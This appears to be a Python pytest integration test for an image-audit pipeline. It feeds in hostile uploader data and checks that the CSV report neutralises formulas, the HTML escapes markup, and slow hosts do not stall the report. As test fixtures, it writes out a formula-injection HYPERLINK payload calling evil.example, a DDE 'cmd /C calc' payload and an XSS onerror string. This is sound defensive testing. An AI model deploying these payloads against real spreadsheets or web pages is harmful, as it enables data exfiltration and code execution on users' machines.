"""A night over a hostile catalog, through the real DAG: uploaders chose the image ids, file names,
sources and the images' own EXIF (which Copyleaks echoes as ``imageInfo.metadata``), and some of their
hosts answer the report's fetch one byte a second.

The run succeeds; the report finishes within its fetch deadline with placeholders for the slow hosts; no
CSV cell starts as a formula (the Parquet file keeps the raw values); the HTML shows every value as text.
"""

from __future__ import annotations

import csv
import io
import threading
import time
from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit

import pyarrow.parquet as pq
import pytest
from markupsafe import escape
from PIL import Image

from image_audit.reporting.fetch import FETCH_TIMEOUT_SECONDS
from image_audit_dev.sample_catalog import seed_catalog
from tests.support.factories import DAY

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
MARKUP = "<img src=x onerror=alert(1)>"
#: How long a slow host trickles its answer to the report (then it gives up): far past the deadline.
SLOW_SECONDS = 45


def _jpeg(seed: int) -> bytes:
    """A 640x512 picture whose EXIF Artist is a formula and Software is markup."""
    image = Image.new("RGB", (640, 512), (40 + seed * 20, 120, 200 - seed * 10))
    exif = Image.Exif()
    exif[0x013B] = FORMULA  # Artist -> imageInfo.metadata.issuedBy
    exif[0x0131] = MARKUP  # Software -> imageInfo.metadata.appOrDeviceUsed
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


class _UploadersHost:
    """``/fast/<name>`` serves the picture; ``/slow/<name>`` serves it whole once (Copyleaks' fetch),
    then one byte a second for ``SLOW_SECONDS`` (the report's)."""

    def __init__(self) -> None:
        self.gets: Counter[str] = Counter()
        host = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = unquote(urlsplit(self.path).path)
                host.gets[path] += 1
                body = _jpeg(len(path) % 5)
                self.send_response(200)
                self.send_header("Content-Type", "image/jpeg")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if path.startswith("/slow/") and host.gets[path] > 1:
                    for byte in body[:SLOW_SECONDS]:
                        self.wfile.write(bytes([byte]))
                        self.wfile.flush()
                        time.sleep(1)  # the hostile behaviour itself: a byte a second
                    return
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> _UploadersHost:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc_info) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def uploaders() -> Iterator[_UploadersHost]:
    with _UploadersHost() as host:
        yield host


def _hostile_rows(base: str) -> list[dict]:
    ingested = DAY + timedelta(hours=2)
    names = {
        "=1+1": "=1+1.jpg",
        "+cmd|' /C calc'!A0": "+cmd.jpg",
        "-2+3": "-2+3.jpg",
        "@SUM(A1:A9)": f"{MARKUP}.jpg",
    }
    rows = [
        {
            "image_id": image_id,
            "url": f"{base}/fast/{quote(file_name)}",
            "file_name": file_name,
            "source": (FORMULA, MARKUP)[i % 2],
            "ingested_at": ingested,
            "fetch_headers_ref": None,
        }
        for i, (image_id, file_name) in enumerate(names.items())
    ]
    rows += [
        {
            "image_id": f"slow-{i}",
            "url": f"{base}/slow/slow-{i}.jpg",
            "file_name": f"slow-{i}.jpg",
            "source": "\t=cmd",
            "ingested_at": ingested,
            "fetch_headers_ref": None,
        }
        for i in range(2)
    ]
    return rows


def test_a_hostile_catalog_night_completes_and_its_report_is_safe_to_open(audit, uploaders):
    rows = _hostile_rows(uploaders.url)
    seed_catalog(audit.engine, rows)
    run = audit.run(DAY)
    assert run.state == "success"
    assert {s["state"] for s in audit.scans()} == {"completed"}, audit.scans()

    report_task = run.get_task_instance("report")
    took = (report_task.end_date - report_task.start_date).total_seconds()
    assert took < FETCH_TIMEOUT_SECONDS + 20, f"the report took {took:.0f} s"
    assert all(uploaders.gets[f"/slow/slow-{i}.jpg"] == 2 for i in range(2)), uploaders.gets

    paths = audit.report(run.run_id)
    html = Path(urlsplit(paths["html_path"]).path).read_text()
    assert MARKUP not in html and str(escape(MARKUP)) in html and str(escape(FORMULA)) in html
    assert html.count("image unavailable") >= 2  # the slow hosts' thumbnails

    with Path(urlsplit(paths["csv_path"]).path).open(newline="") as csv_file:
        cells = [cell for row in csv.reader(csv_file) for cell in row if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], "a cell that a spreadsheet evaluates"
    assert "'" + FORMULA in cells and "'=1+1" in cells and "'\t=cmd" in cells
    exported = pq.read_table(urlsplit(paths["parquet_path"]).path).to_pylist()
    assert {row["image_id"] for row in exported} == {row["image_id"] for row in rows}  # raw
    assert {row["issued_by"] for row in exported} == {FORMULA}
    assert {row["app_or_device"] for row in exported} == {MARKUP}
